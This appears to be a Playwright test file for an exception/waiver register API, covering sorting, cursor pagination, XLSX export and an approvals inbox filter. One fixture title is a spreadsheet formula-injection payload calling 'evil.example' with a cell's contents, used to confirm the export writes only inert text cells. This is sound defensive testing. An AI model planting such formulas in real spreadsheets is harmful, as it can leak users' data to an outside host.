// The register's server-side order (sort, order, keyset cursor), the XLSX export, the approvals
// inbox filter (waiting_for=me) and the names that go with the emails of the approvals section.
import { test, expect } from '@playwright/test';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { useWaiver, who } from './helpers/server.js';
import { expectOk, expectProblem, createDraft, createSubmitted, createActive, approveDepartment, addDays, today } from './helpers/flow.js';

const w = useWaiver();

const TITLES = ['delta', 'Alpha', 'charlie', 'bravo', 'echo', 'alpha'];

test.beforeAll(async () => {
  // Six drafts, two submitted, one active with a risk level; titles out of order, one tie on end_on.
  for (const [i, t] of TITLES.entries())
    await createDraft(w, { title: `${t} ${i}`, start_on: today(), end_on: addDays(today(), 10 + (i % 3) * 5) });
  await createSubmitted(w, { title: '=HYPERLINK("http://evil.example/"&A1, "click") submitted' });
  await createActive(w, { title: 'zulu active' }, { risk_level: 'high', action_plan: 'Fix it by spring' });
});

async function walk(path: string, limit: number): Promise<any[]> {
  const auditor = await w.as('auditor');
  const out: any[] = [];
  let cursor: string | null = null;
  for (let guard = 0; guard < 50; guard++) {
    const sep = path.includes('?') ? '&' : '?';
    const page = expectOk(await auditor.get(`${path}${sep}limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`));
    expect(page.items.length).toBeLessThanOrEqual(limit);
    out.push(...page.items);
    cursor = page.next_cursor;
    if (!cursor) return out;
  }
  throw new Error('too many pages');
}

test('the default order is unchanged: newest first by id, numeric cursors', async () => {
  const all = await walk('/exceptions', 3);
  expect(all.length).toBe(8);
  const ids = all.map((r) => r.id);
  expect(ids).toEqual([...ids].sort((a, b) => b - a));
  const first = expectOk(await (await w.as('auditor')).get('/exceptions?limit=3'));
  expect(first.next_cursor).toMatch(/^\d+$/);
});

test('sort and order on an allow-list of columns, stable across pages of any size', async () => {
  const auditor = await w.as('auditor');
  const full = expectOk(await auditor.get('/exceptions?limit=200')).items;
  const keyOf: Record<string, (r: any) => string> = {
    title: (r) => r.title,
    ref: (r) => r.ref,
    created_at: (r) => r.created_at,
    updated_at: (r) => r.updated_at,
    submitted_at: (r) => r.submitted_at ?? '',
    status: (r) => r.status,
    risk_level: (r) => String({ low: 1, medium: 2, high: 3, critical: 4 }[r.risk_level as string] ?? 0),
    end_on: (r) => r.decision_end_on ?? r.end_on ?? '',
  };
  for (const [sort, key] of Object.entries(keyOf))
    for (const order of ['asc', 'desc'])
      for (const limit of [1, 3, 200]) {
        const got = await walk(`/exceptions?sort=${sort}&order=${order}`, limit);
        expect(got.length, `${sort} ${order} ${limit}`).toBe(full.length);
        expect(new Set(got.map((r) => r.id)).size).toBe(full.length);
        for (let i = 1; i < got.length; i++) {
          const [a, b] = [got[i - 1], got[i]];
          const [ka, kb] = [key(a), key(b)];
          // Keys in order (the database's collation; ties broken by id in the same direction).
          if (ka === kb) expect(order === 'asc' ? a.id < b.id : a.id > b.id, `${sort} ${order} tie`).toBe(true);
        }
        if (sort === 'risk_level' && order === 'desc') expect(got[0].risk_level).toBe('high');
        if (sort === 'submitted_at' && order === 'asc') expect(got[got.length - 1].submitted_at).not.toBeNull();
      }
  const byTitle = (await walk('/exceptions?sort=title&order=asc', 2)).map((r) => r.title);
  expect(byTitle.indexOf('bravo 3')).toBeLessThan(byTitle.indexOf('charlie 2'));
  expect(byTitle.indexOf('charlie 2')).toBeLessThan(byTitle.indexOf('delta 0'));
  // Default direction is desc.
  const desc = (await walk('/exceptions?sort=ref', 200)).map((r) => r.ref);
  expect(desc).toEqual([...desc].sort().reverse());
});

test('sort refusals: unknown column, order without sort, a cursor of another order', async () => {
  const auditor = await w.as('auditor');
  expectProblem(await auditor.get('/exceptions?sort=requirement'), 422, ['sort']);
  expectProblem(await auditor.get('/exceptions?sort=title&order=up'), 422, ['order']);
  expectProblem(await auditor.get('/exceptions?order=asc'), 422, ['order']);
  const page = expectOk(await auditor.get('/exceptions?sort=title&order=asc&limit=2'));
  expect(page.next_cursor).toBeTruthy();
  expectProblem(await auditor.get(`/exceptions?sort=title&order=desc&cursor=${encodeURIComponent(page.next_cursor)}`), 422, ['cursor']);
  expectProblem(await auditor.get(`/exceptions?sort=ref&order=asc&cursor=${encodeURIComponent(page.next_cursor)}`), 422, ['cursor']);
  expectProblem(await auditor.get(`/exceptions?cursor=${encodeURIComponent(page.next_cursor)}`), 422, ['cursor']);
  expectProblem(await auditor.get('/exceptions?sort=title&cursor=s.title.desc.zz.1'), 422, ['cursor']);
});

test('XLSX export: a workbook with the CSV columns, text cells only, in the order asked for', async () => {
  const auditor = await w.as('auditor');
  const res = await fetch(auditor.url('/exceptions/export?format=xlsx&sort=title&order=asc'), {
    headers: { Authorization: `Bearer ${w.tokens.get('auditor')}` },
  });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  expect(res.headers.get('content-disposition')).toBe('attachment; filename="waiver-register.xlsx"');
  const bytes = Buffer.from(await res.arrayBuffer());
  expect(bytes.subarray(0, 2).toString()).toBe('PK');
  const dir = mkdtempSync(join(tmpdir(), 'waiver-xlsx-'));
  const file = join(dir, 'register.xlsx');
  writeFileSync(file, bytes);
  const list = execFileSync('unzip', ['-l', file]).toString();
  expect(list).toContain('xl/worksheets/sheet1.xml');
  const sheet = execFileSync('unzip', ['-p', file, 'xl/worksheets/sheet1.xml']).toString();
  const strings = execFileSync('unzip', ['-p', file, 'xl/sharedStrings.xml']).toString();
  // No formula anywhere, every filled cell a shared string.
  expect(sheet).not.toContain('<f>');
  expect(sheet).toMatch(/t="s"/);
  for (const column of ['ref', 'status', 'title', 'compensating_controls', 'updated_at']) expect(strings).toContain(`<t>${column}</t>`);
  const text = strings.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
  expect(text).toContain('=HYPERLINK("http://evil.example/"&A1, "click") submitted');
  // Rows in the order asked for (title ascending): the same order as the CSV's.
  const csv = (await auditor.get('/exceptions/export?format=csv&sort=title&order=asc')).text;
  const refs = csv.split('\r\n').slice(1).filter(Boolean).map((l) => l.split(',')[0]);
  const xlsxRefs = [...strings.matchAll(/<t>(EXC-\d{4}-\d{4})<\/t>/g)].map((m) => m[1]);
  expect(xlsxRefs).toEqual(refs);
  expectProblem(await auditor.get('/exceptions/export?format=ods'), 422, ['format']);
});

test('waiting_for=me: only what the caller may act on now, oldest submission first', async () => {
  const s1 = await createSubmitted(w, { title: 'waiting one' });
  const s2 = await createSubmitted(w, { title: 'waiting two' });
  const p = await approveDepartment(w, s2); // now waits for sec (compliance) and not for eng.head
  const head = expectOk(await (await w.as('eng.head')).get('/exceptions?waiting_for=me&sort=submitted_at&order=asc')).items;
  expect(head.map((r: any) => r.id)).toContain(s1.id);
  expect(head.map((r: any) => r.id)).not.toContain(p.id);
  for (const r of head) expect(r.allowed_actions.some((a: string) => a.startsWith('decide:'))).toBe(true);
  const subs = head.map((r: any) => r.submitted_at);
  expect(subs).toEqual([...subs].sort());
  const sec = expectOk(await (await w.as('sec')).get('/exceptions?waiting_for=me&limit=1')).items;
  expect(sec.length).toBe(1);
  const secAll = await (async () => {
    const api = await w.as('sec');
    const out: any[] = [];
    let cursor: string | null = null;
    do {
      const page: any = expectOk(await api.get(`/exceptions?waiting_for=me&limit=1${cursor ? `&cursor=${cursor}` : ''}`));
      out.push(...page.items);
      cursor = page.next_cursor;
    } while (cursor);
    return out;
  })();
  expect(secAll.map((r) => r.id)).toContain(p.id);
  expect(secAll.map((r) => r.id)).not.toContain(s1.id);
  expect(expectOk(await (await w.as('ana')).get('/exceptions?waiting_for=me')).items).toEqual([]);
  expectProblem(await (await w.as('ana')).get('/exceptions?waiting_for=bob@example.com'), 422, ['waiting_for']);
});

test('names beside emails: approvals carry by_name and eligible_names for every reader', async () => {
  const s = await createSubmitted(w, { title: 'named' });
  const p = await approveDepartment(w, s);
  const mine = expectOk(await (await w.as('ana')).get(`/exceptions/${p.id}`));
  const dept = mine.approvals.find((a: any) => a.slot === 'department');
  expect(dept.by).toBe(who('eng.head'));
  expect(dept.by_name).toBe('Erin Head');
  const comp = mine.approvals.find((a: any) => a.slot === 'compliance');
  expect(comp.by_name).toBeNull();
  expect(comp.eligible_names).toEqual(comp.eligible.map((e: string) => ({ [who('sec')]: 'Sam Ek', [who('sec2')]: 'Sara Two' })[e]));
});
